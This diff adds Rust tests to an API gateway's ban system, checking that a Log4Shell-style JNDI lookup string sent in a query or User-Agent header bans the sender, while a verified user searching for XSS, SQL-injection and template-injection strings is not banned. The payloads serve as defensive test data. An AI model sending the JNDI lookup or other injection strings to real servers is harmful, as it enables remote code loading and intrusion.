@@ -160,3 +160,42 @@ fn a_simulated_ban_is_only_reported() {
     assert_eq!(of_kind(&events, "ban.created").len(), 1);
     assert!(of_kind(&events, "access.denied").iter().all(|event| event["ban"]["active"] == false));
 }
+
+#[test]
+fn an_exploit_bans_at_once_and_a_search_about_one_does_not() {
+    let world = world("", "");
+    let exploit = "/search?q=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.1%2Fx%7D";
+    world.gateway.check_refused(
+        "the exploit",
+        &world.gateway.get_from("127.0.0.71", exploit, &[]),
+        401,
+        "authn.missing",
+    );
+    world.check_banned("what follows", &world.gateway.get_from("127.0.0.71", "/", &[]));
+    // In a header, of a request that is let in.
+    let agent = ("User-Agent", "${jndi:ldap://198.51.100.1/x}");
+    assert_eq!(world.gateway.get_from("127.0.0.72", "/", &[("X-Api-Key", &world.key), agent]).status(), 200);
+    let banned = world.gateway.get_from("127.0.0.72", "/", &[("X-Api-Key", &world.key)]);
+    world.check_banned("the principal that sent it", &banned);
+    let events = world.gateway.stop();
+    let causes: Vec<_> = of_kind(&events, "ban.created").iter().map(|event| event["message"].to_string()).collect();
+    let [of_address, of_principal] = &causes[..] else { panic!("{causes:#?}") };
+    assert!(
+        of_address.contains("signatures: level 3.0 of 2.5 in the last 5m, the last one: jndi lookup"),
+        "{of_address}"
+    );
+    assert!(of_principal.starts_with("\"user:alice is banned"), "{of_principal}");
+}
+
+#[test]
+fn a_verified_principal_may_look_for_what_an_attack_looks_like() {
+    let world = world("", "");
+    for query in ["%3Cscript%3E", "1%27+union+select+2", "%7B%7B7*7%7D%7D", "alert(1)"] {
+        for _ in 0..3 {
+            let target = format!("/search?q={query}");
+            let answer = world.gateway.get_from("127.0.0.73", &target, &[("X-Api-Key", &world.key)]);
+            assert_eq!(answer.status(), 200, "{query}");
+        }
+    }
+    assert_eq!(world.gateway.metric("portcullis_bans_active"), Some(0.0));
+}
